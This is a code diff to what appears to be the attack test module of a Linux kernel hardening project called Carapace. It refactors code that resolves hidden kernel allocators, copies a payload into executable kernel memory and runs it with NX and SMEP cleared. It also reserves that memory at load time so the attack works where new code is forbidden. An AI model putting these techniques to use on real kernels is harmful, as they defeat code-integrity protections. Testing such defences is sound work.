@@ -48,16 +48,6 @@ static struct notifier_block swallower = {
 	.priority = INT_MAX,
 };
 
-int attack_exec_init(void)
-{
-	return register_die_notifier(&swallower);
-}
-
-void attack_exec_exit(void)
-{
-	unregister_die_notifier(&swallower);
-}
-
 /* How the page-table entry and the CPU are changed for the time of the call */
 #define CLEAR_NX	1
 #define CLEAR_SMEP	2
@@ -222,30 +212,59 @@ static void in_page(struct attack_request *q, unsigned int changes)
 	free_page((unsigned long)code);
 }
 
-/* From the kernel's own allocator for code, which nobody announced */
-static void in_module(struct attack_request *q, unsigned int changes)
+/*
+ * Where modules are: from the kernel's own allocator for code. Before 6.10 that gives
+ * none where Carapace lets no new code be; this was got beforehand, then.
+ */
+static u8 *kept;
+
+static u8 *allocate_code(void)
 {
 	u64 allocate = attack_symbol("execmem_alloc_rw");
-	u64 release = attack_symbol("execmem_free");
-	u8 *code;
 
 	/* Kernels before that one give memory that can be written. */
 	if (!allocate)
 		allocate = attack_symbol("execmem_alloc");
-	if (allocate) {
-		code = (u8 *)attack_call(allocate, 0, PAGE_SIZE, 0, 0);
-	} else {
-		allocate = attack_symbol("module_alloc");
+	if (allocate)
+		return (u8 *)attack_call(allocate, 0, PAGE_SIZE, 0, 0);
+	allocate = attack_symbol("module_alloc");
+	return allocate ? (u8 *)attack_call(allocate, PAGE_SIZE, 0, 0, 0) : NULL;
+}
+
+static void free_code(u8 *code)
+{
+	u64 release = attack_symbol("execmem_free");
+
+	if (!release)
 		release = attack_symbol("module_memfree");
-		if (!allocate)
-			return;
-		code = (u8 *)attack_call(allocate, PAGE_SIZE, 0, 0, 0);
-	}
-	if (!code || !release)
+	if (code && release)
+		attack_call(release, (u64)code, 0, 0, 0);
+}
+
+static void in_module(struct attack_request *q, unsigned int changes)
+{
+	u8 *fresh = allocate_code(), *code = fresh ? : kept;
+
+	if (!code)
 		return;
 	memcpy(code, payload, sizeof(payload));
 	run(q, code, changes);
-	attack_call(release, (u64)code, 0, 0, 0);
+	free_code(fresh);
+}
+
+int attack_exec_init(void)
+{
+	int err = register_die_notifier(&swallower);
+
+	if (!err)
+		kept = allocate_code();
+	return err;
+}
+
+void attack_exec_exit(void)
+{
+	free_code(kept);
+	unregister_die_notifier(&swallower);
 }
 
 /*
